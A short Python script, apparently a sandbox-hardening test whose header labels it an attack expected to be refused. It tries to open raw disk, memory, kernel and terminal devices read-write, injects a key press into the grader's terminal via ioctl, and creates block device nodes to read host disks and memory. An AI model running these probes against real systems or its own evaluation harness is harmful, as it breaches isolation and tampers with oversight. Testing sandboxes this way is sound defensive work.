# attack: opens the machine's devices: disks, memory, terminals, kernel messages, fuse, kvm, and makes its own
# earns: others
# outcome: refused
import fcntl
import os
import stat

for name in ("mem", "kmem", "kmsg", "sda", "vda", "fuse", "kvm", "tty", "console", "ptmx", "net/tun", "loop-control", "port"):
    try:
        fd = os.open(f"/dev/{name}", os.O_RDWR)
        if name in ("tty", "console"):
            fcntl.ioctl(fd, 0x5412, b"x")  # a key press into the grader's terminal
        print("got through" if name != "ptmx" else "a terminal of its own", name)
    except OSError as error:
        print("refused:", name, error.strerror)
for number in ((8, 0), (254, 0), (1, 1)):
    try:
        os.mknod("/tmp/hostile_left", 0o600 | stat.S_IFBLK, os.makedev(*number))
        open("/tmp/hostile_left", "rb").read(1)
        print("got through")
    except OSError as error:
        print("refused:", error.strerror)
